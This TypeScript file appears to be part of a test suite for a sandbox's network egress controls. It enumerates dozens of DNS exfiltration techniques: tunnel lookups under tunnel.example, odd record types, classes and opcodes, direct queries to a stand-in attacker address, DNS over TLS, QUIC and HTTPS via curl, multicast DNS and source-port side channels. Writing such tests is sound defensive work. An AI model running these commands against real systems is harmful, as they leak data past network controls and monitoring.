import { type Attack, curl, dns4, dns6, evil4, evil6, pin, py } from './attack.js';

/** A question to the system's resolver that a name server of the attacker would count. */
const tunnel = (name: string, kind: string, more?: string | number): Attack => ({
  name: `a DNS tunnel ${name}`,
  script: (t) => py(kind, 'resolver', 53, `${t}.tunnel.example`, more),
});

/** Every way to ask a name server something. */
export const byDns: readonly Attack[] = [
  { name: 'a DNS tunnel through the system resolver', script: (t) => `getent hosts ${t}.tunnel.example` },
  { name: 'a DNS tunnel below a listed name', script: (t) => `getent hosts ${t}.allowed.example` },
  { name: 'a DNS tunnel below a name with a port', script: (t) => `getent hosts ${t}.ssh.example` },
  { name: 'a DNS tunnel to a single label', script: (t) => `getent hosts ${t}` },
  {
    name: 'a DNS tunnel in a reverse lookup',
    script: (t) => py('dns', 'resolver', 53, `${t}.66.0.18.198.in-addr.arpa`, 12),
  },
  ...[2, 5, 6, 10, 15, 16, 28, 33, 35, 64, 65, 99, 251, 255, 257, 65_280].map((type) =>
    tunnel(`in type ${type}`, 'dns', type),
  ),
  tunnel('over TCP to the resolver', 'dns_tcp', 16),
  tunnel('behind good questions over TCP', 'dns_pipelined'),
  tunnel('in class CH', 'dns_class', 3),
  tunnel('in class HS', 'dns_class', 4),
  tunnel('in class ANY', 'dns_class', 255),
  tunnel('in a zone transfer', 'dns_zone'),
  { name: 'a DNS tunnel behind a pointer', script: (t) => py('dns_pointer', 'resolver', 53, t) },
  { name: 'a DNS tunnel in a label with a dot inside', script: (t) => py('dns_dot', 'resolver', 53, t) },
  { name: 'a DNS tunnel in EDNS padding', script: (t) => py('dns_edns', 'resolver', 53, 'evil.example', t) },
  { name: 'DNS straight to the attacker', script: (t) => py('dns', evil4, 53, `${t}.tunnel.example`, 1) },
  {
    name: 'DNS over TCP straight to the attacker',
    script: (t) => py('dns_tcp', evil4, 53, `${t}.tunnel.example`, 1),
  },
  {
    name: 'DNS straight to the upstream server',
    script: (t) => py('dns', dns4, 53, `${t}.tunnel.example`, 1),
  },
  {
    name: 'DNS over TCP straight to the upstream server',
    script: (t) => py('dns_tcp', dns4, 53, `${t}.tunnel.example`, 1),
  },
  {
    name: 'a listed name asked of the upstream server, the token in EDNS',
    script: (t) => py('dns_edns', dns4, 53, 'allowed.example', t),
  },
  {
    name: 'DNS straight to an IPv6 server',
    script: (t) => py('dns', evil6, 53, `${t}.tunnel.example`, 1),
    ipv6: true,
  },
  {
    name: 'DNS straight to the upstream server over IPv6',
    script: (t) => py('dns', dns6, 53, `${t}.tunnel.example`, 1),
    ipv6: true,
  },
  {
    name: "the source ports of the resolver's questions",
    script: (t) => py('used_source_port', dns4, 53, `${t}.tunnel.example`),
    alone: true,
  },
  {
    name: "the source ports of the resolver's questions over IPv6",
    script: (t) => py('used_source_port', dns6, 53, `${t}.tunnel.example`),
    alone: true,
    ipv6: true,
  },
  {
    name: "an impostor on the resolver's port",
    script: (t) => py('impostor', evil4, 80, t, 'cdn.example'),
    alone: true,
  },
  { name: 'DNS over TLS', script: (t) => py('dns_tls', evil4, 853, `${t}.tunnel.example`, 'dot.example') },
  {
    name: 'DNS over TLS on the port of HTTPS',
    script: (t) => py('dns_tls', evil4, 443, `${t}.tunnel.example`, 'dot.example'),
  },
  { name: 'DNS over TLS to the upstream server', script: (t) => py('tcp', dns4, 853, t) },
  { name: 'DNS over QUIC', script: (t) => py('udp', evil4, 853, t) },
  { name: 'DNS over HTTPS', script: (t) => curl(`https://doh.example/dns-query?name=${t}`) },
  { name: 'DNS over HTTPS by address', script: (t) => curl(`https://${evil4}/dns-query?name=${t}`) },
  {
    name: 'DNS over HTTPS at an address that was looked up elsewhere',
    script: (t) => curl(`https://doh.example/dns-query?name=${t}`, pin('doh.example', 443, evil4)),
  },
  {
    name: 'multicast DNS',
    script: (t) => `${py('udp', '224.0.0.251', 5353, t)}; ${py('udp', evil4, 5353, t)}`,
  },
];

/** Questions that only a name server itself takes; the resolver that an engine embeds answers or drops them. */
export const byOddDns: readonly Attack[] = [
  tunnel('in type 12', 'dns', 12),
  tunnel('in an inverse query', 'dns_opcode', 1),
  tunnel('in a status query', 'dns_opcode', 2),
  tunnel('in a notification', 'dns_opcode', 4),
  tunnel('in an update', 'dns_update'),
  tunnel('in what looks like an answer', 'dns_response'),
  tunnel('in a second question', 'dns_second'),
  tunnel('in a question that is not counted', 'dns_none'),
];
